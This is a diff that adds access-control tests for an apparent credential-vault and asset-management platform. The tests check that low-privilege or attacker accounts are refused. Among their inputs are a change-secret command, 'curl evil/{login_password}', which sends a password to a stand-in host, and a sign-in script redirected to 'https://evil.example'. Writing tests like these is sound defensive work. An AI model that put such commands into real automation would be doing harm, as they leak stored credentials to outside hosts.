@@ -287,3 +287,64 @@ describe.each([
     expect(arrived(secret)).toBe(false)
   })
 })
+
+describe('who may not see secrets', () => {
+  it('cannot decide where they go by other settings either', async () => {
+    // With a system role, as far as settings and platforms go.
+    const codes = ['settings.view_setting', 'settings.change_vault', 'assets.change_platform', 'assets.view_platform']
+    const permissions = codes.map((code) => permissionByCode(code)?.id)
+    const role = await server.admin
+      .collection('rbac/system-roles')
+      .create({ name: 'sets', scope: 'system', permissions })
+    const sets = await server.as(await server.person('sets', { system: [role.id] }), defaultOrgId)
+    const vault = { VAULT_ENABLED: true, VAULT_HCP_HOST: 'http://127.0.0.1:9', VAULT_HCP_TOKEN: 'mine' }
+    expect(await tried(sets.request('PATCH', `${api}settings/setting/?category=vault`, vault))).toBe(403)
+    expect(await tried(sets.request('POST', `${api}settings/vault/sync/`, {}))).toBe(403)
+    const device = await make('assets/platforms', {
+      ...{
+        category: { value: 'device' },
+        type: { value: 'general' },
+        protocols: [{ name: 'ssh', port: 22, primary: true }],
+      },
+      ...{
+        automation: {
+          ansible_enabled: true,
+          change_secret_enabled: true,
+          change_secret_method: 'change_secret_by_ssh',
+        },
+      },
+    })
+    const worded = { change_secret_params: { change_secret_by_ssh: { commands: ['curl evil/{login_password}'] } } }
+    const change = (automation: object) =>
+      tried(sets.request('PATCH', `${api}assets/platforms/${device.id}/`, { automation }))
+    expect(await change(worded)).toBe(403)
+    expect(await change({ change_secret_enabled: false })).toBe(200)
+    expect(await tried(sets.request('PATCH', `${api}assets/platforms/${device.id}/`, { domain_enabled: true }))).toBe(
+      200,
+    )
+  })
+
+  it('cannot trust another machine with what is stored, nor lead a sign-in page elsewhere', async () => {
+    const one = await victim()
+    await accountTask('verify', () => server.admin)(one)
+    const [key] = await server.admin.collection('assets/host-keys').all({ asset: one.host.id })
+    expect(await tried(mallory.collection('assets/host-keys').delete(String(key?.id)))).toBe(403)
+    const site = await make('assets/webs', {
+      ...{
+        address: 'https://127.0.0.1',
+        platform: { pk: await webPlatform() },
+        protocols: [{ name: 'http', port: 443 }],
+      },
+      ...{ autofill: 'basic', accounts: [{ username: 'web', secret: 'of-the-site' }] },
+    })
+    const lead = (body: object) => tried(mallory.request('PATCH', `${api}assets/webs/${site.id}/`, body))
+    expect(await lead({ script: [{ step: 1, command: 'open', target: 'https://evil.example', value: '' }] })).toBe(403)
+    expect(await lead({ password_selector: 'id=theirs' })).toBe(403)
+    expect(await lead({ comment: 'x', password_selector: 'name=password' })).toBe(200)
+  })
+})
+
+async function webPlatform(): Promise<unknown> {
+  const [first] = await server.admin.collection('assets/platforms').all({ category: 'web' })
+  return first?.id
+}
